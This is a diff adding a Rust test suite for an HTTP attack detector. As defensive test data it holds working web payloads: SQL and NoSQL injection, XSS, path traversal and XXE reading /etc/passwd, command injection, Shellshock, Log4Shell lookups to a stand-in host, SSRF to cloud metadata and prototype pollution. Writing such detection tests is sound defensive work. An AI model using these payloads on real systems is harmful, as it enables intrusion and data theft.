@@ -1,0 +1,331 @@
+//! Detector tests on whole transactions, built by the real HTTP parser.
+
+use super::*;
+use crate::record::Record;
+
+fn run(req: &str, resp: &str) -> Vec<Record<'static>> {
+    let mut d = Detector::new(DetectConfig::default());
+    let mut out = vec![];
+    for t in raw::transactions(req.as_bytes(), resp.as_bytes()) {
+        d.push(&t, &mut |r| out.push(r));
+    }
+    out
+}
+
+fn attack(recs: &[Record<'static>]) -> Option<Attack> {
+    recs.iter().find_map(|r| match r {
+        Record::Attack(a) => Some(a.clone()),
+        _ => None,
+    })
+}
+
+const OK: &str = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok";
+
+fn resp(status: &str, headers: &str, body: &str) -> String {
+    format!(
+        "HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+fn get(uri: &str, headers: &str) -> String {
+    format!("GET {uri} HTTP/1.1\r\nHost: app\r\n{headers}\r\n")
+}
+
+fn post(uri: &str, ctype: &str, body: &str) -> String {
+    format!(
+        "POST {uri} HTTP/1.1\r\nHost: app\r\nContent-Type: {ctype}\r\nContent-Length: {}\r\n\r\n{body}",
+        body.len()
+    )
+}
+
+#[test]
+fn flags_each_class_at_its_point() {
+    let table: &[(String, &str, &str)] = &[
+        (
+            get("/item?id=1%27%20OR%20%271%27%3D%271", ""),
+            "sqli",
+            "query.id",
+        ),
+        (
+            get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+            "xss",
+            "query.q",
+        ),
+        (
+            get("/search?q=%253Csvg%2520onload%253Dalert(1)%253E", ""),
+            "xss",
+            "query.q",
+        ),
+        (get("/static/../../etc/passwd", ""), "ptrav", "path"),
+        (
+            get("/cgi-bin/status?host=127.0.0.1;cat%20/etc/passwd", ""),
+            "rce",
+            "query.host",
+        ),
+        (
+            get("/", "User-Agent: ${jndi:ldap://x.example/a}\r\n"),
+            "log4shell",
+            "header.User-Agent",
+        ),
+        (
+            get("/", "X-Api-Version: ${${lower:j}ndi:ldap://x/a}\r\n"),
+            "log4shell",
+            "header.X-Api-Version",
+        ),
+        (
+            get("/", "Cookie: pref=%7B%7B7*7%7D%7D\r\n"),
+            "ssti",
+            "cookie.pref",
+        ),
+        (
+            post(
+                "/api/login",
+                "application/json",
+                r#"{"user":"admin' --","password":"x"}"#,
+            ),
+            "sqli",
+            "body.json.user",
+        ),
+        (
+            post(
+                "/api/login",
+                "application/json",
+                r#"{"user":{"$ne":null},"password":{"$ne":null}}"#,
+            ),
+            "nosql",
+            "body.json_key.user.$ne",
+        ),
+        (
+            get("/login?user[$ne]=x", ""),
+            "nosql",
+            "query_key.user[$ne]",
+        ),
+        (
+            post(
+                "/x",
+                "application/xml",
+                r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>"#,
+            ),
+            "xxe",
+            "body.xml",
+        ),
+        (
+            get("/fetch?url=http://169.254.169.254/latest/meta-data/", ""),
+            "ssrf",
+            "query.url",
+        ),
+        (
+            get("/redir?next=%0d%0aSet-Cookie:%20a=1", ""),
+            "crlf",
+            "query.next",
+        ),
+        (
+            post(
+                "/f",
+                "application/x-www-form-urlencoded",
+                "data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg",
+            ),
+            "xss",
+            "body.form.data",
+        ),
+        (
+            post(
+                "/api",
+                "application/json",
+                r#"{"a":{"b":{"c":"<img src=x onerror=alert(1)>"}}}"#,
+            ),
+            "xss",
+            "body.json.a.b.c",
+        ),
+        (
+            get("/", "User-Agent: () { :; }; /bin/bash -c id\r\n"),
+            "rce",
+            "header.User-Agent",
+        ),
+        (
+            get("/", "User-Agent: sqlmap/1.7\r\n"),
+            "scanner",
+            "header.User-Agent",
+        ),
+        (get("/.git/config", ""), "scanner", "path"),
+        (
+            post(
+                "/api",
+                "application/json",
+                r#"{"__proto__":{"admin":true}}"#,
+            ),
+            "proto",
+            "body.json_key.__proto__",
+        ),
+    ];
+    for (req, class, point) in table {
+        let a = attack(&run(req, OK)).unwrap_or_else(|| panic!("no attack for {req:?}"));
+        assert!(
+            a.hits
+                .iter()
+                .any(|h| h.class == *class && h.point == *point),
+            "{req:?}: want {class} at {point}, got {:?}",
+            a.hits
+        );
+    }
+}
+
+#[test]
+fn benign_requests_are_quiet() {
+    let table: &[String] = &[
+        get("/api/v1/users?page=2&limit=3", "User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0\r\nAccept: text/html,application/xhtml+xml;q=0.9,*/*;q=0.8\r\n"),
+        get("/search?q=O%27Brien+and+sons", ""),
+        get("/search?q=select+a+plan", ""),
+        get("/calc?expr=1+-+2", ""),
+        post("/api/v1/users/130", "application/json", r#"{"name":"Seán O'Brien","bio":"I like **bold** and <b>bold</b> text; see https://example.com","tags":["a & b"]}"#),
+        post("/comment", "application/x-www-form-urlencoded", "body=Use+%60git+status%60+then+%60git+log%60.&name=Tom+%26+Jerry"),
+        post("/api/orders", "application/json", r#"{"sku":"SKU-104","quantity":3,"note":"deliver to door; ring twice","callback":"https://shop.example.com/hooks/order"}"#),
+    ];
+    for req in table {
+        assert_eq!(attack(&run(req, OK)), None, "{req:?}");
+    }
+}
+
+#[test]
+fn outcome_from_response() {
+    let leak = resp("200 OK", "", "root:x:0:0:root:/root:/bin/bash\n");
+    let a = attack(&run(&get("/f?file=../../../../etc/passwd", ""), &leak)).unwrap();
+    assert_eq!(a.outcome.as_deref(), Some("likely_succeeded"));
+    assert_eq!(a.severity.as_deref(), Some("critical"));
+    let blocked = resp("403 Forbidden", "", "");
+    let a = attack(&run(&get("/f?file=../../../../etc/passwd", ""), &blocked)).unwrap();
+    assert_eq!(a.outcome.as_deref(), Some("blocked"));
+    let reflected = resp(
+        "200 OK",
+        "Content-Type: text/html\r\n",
+        "<p>Results for <script>alert(1)</script>",
+    );
+    let a = attack(&run(
+        &get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+        &reflected,
+    ))
+    .unwrap();
+    assert_eq!(a.outcome.as_deref(), Some("likely_succeeded"));
+    let escaped = resp(
+        "200 OK",
+        "Content-Type: text/html\r\n",
+        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
+    );
+    let a = attack(&run(
+        &get("/s?q=%3Cscript%3Ealert(1)%3C/script%3E", ""),
+        &escaped,
+    ))
+    .unwrap();
+    assert_eq!(a.outcome.as_deref(), Some("unknown"));
+    let sql_err = resp("500 Error", "", "You have an error in your SQL syntax near");
+    let a = attack(&run(&get("/i?id=1%27%20or%201=1--", ""), &sql_err)).unwrap();
+    assert_eq!(a.outcome.as_deref(), Some("likely_succeeded"));
+}
+
+#[test]
+fn vulns_once_per_endpoint() {
+    let mut d = Detector::new(DetectConfig::default());
+    let mut out = vec![];
+    let resp = resp(
+        "500 Error",
+        "Server: Apache/2.2.8\r\n",
+        "java.lang.IllegalStateException\n\tat com.x.App.run(App.java:1)\n",
+    );
+    for id in [1, 2, 3] {
+        for t in raw::transactions(
+            get(&format!("/api/users/{id}"), "").as_bytes(),
+            resp.as_bytes(),
+        ) {
+            d.push(&t, &mut |r| out.push(r));
+        }
+    }
+    let vulns: Vec<String> = out
+        .iter()
+        .filter_map(|r| match r {
+            Record::Vuln(v) => Some(v.class.clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(vulns, ["info_leak.stack_trace", "outdated_software"]);
+}
+
+#[test]
+fn behaviour_brute_force_and_forced_browsing() {
+    let mut cfg = DetectConfig::default();
+    cfg.behaviour.brute_force = 3;
+    cfg.behaviour.forced_browsing = 4;
+    let mut d = Detector::new(cfg);
+    let mut out = vec![];
+    let denied = resp("401 Unauthorized", "", "");
+    let missing = resp("404 Not Found", "", "");
+    for i in 0..5 {
+        let req = post(
+            "/login",
+            "application/x-www-form-urlencoded",
+            &format!("user=u{i}&pw=x"),
+        );
+        for t in raw::transactions(req.as_bytes(), denied.as_bytes()) {
+            d.push(&t, &mut |r| out.push(r));
+        }
+        for t in raw::transactions(
+            get(&format!("/old{i}.bak"), "").as_bytes(),
+            missing.as_bytes(),
+        ) {
+            d.push(&t, &mut |r| out.push(r));
+        }
+    }
+    let classes: Vec<String> = out
+        .iter()
+        .filter_map(|r| match r {
+            Record::Attack(a) => Some(a.hits[0].rule.clone()),
+            _ => None,
+        })
+        .collect();
+    assert_eq!(
+        classes,
+        ["bruteforce.failed_logins", "forced_browsing.many_404"]
+    );
+}
+
+#[test]
+fn config_disables_and_allowlists() {
+    let req = get("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "");
+    let mut cfg = DetectConfig::default();
+    cfg.disabled.insert("xss".into());
+    let mut d = Detector::new(cfg);
+    let mut out = vec![];
+    for t in raw::transactions(req.as_bytes(), OK.as_bytes()) {
+        d.push(&t, &mut |r| out.push(r));
+    }
+    assert!(out.is_empty());
+    let cfg = DetectConfig {
+        allow_points: vec!["query.*".into()],
+        ..DetectConfig::default()
+    };
+    let mut d = Detector::new(cfg);
+    for t in raw::transactions(req.as_bytes(), OK.as_bytes()) {
+        d.push(&t, &mut |r| out.push(r));
+    }
+    assert!(out.is_empty());
+}
+
+#[test]
+fn no_panic_on_hostile_requests() {
+    let long = "A".repeat(300_000);
+    let nested = "%25".repeat(20_000);
+    for req in [
+        get(&format!("/?q={long}"), ""),
+        get(&format!("/?q={nested}"), ""),
+        post("/", "application/json", &"[".repeat(100_000)),
+        post("/", "multipart/form-data; boundary=", "--\r\n\r\n"),
+        post(
+            "/",
+            "multipart/form-data; boundary=x",
+            &"--x\r\n".repeat(5000),
+        ),
+        get("/?%ff%fe=%c0", "Cookie: ;;;=;a\r\n"),
+    ] {
+        let _ = run(&req, OK);
+    }
+}
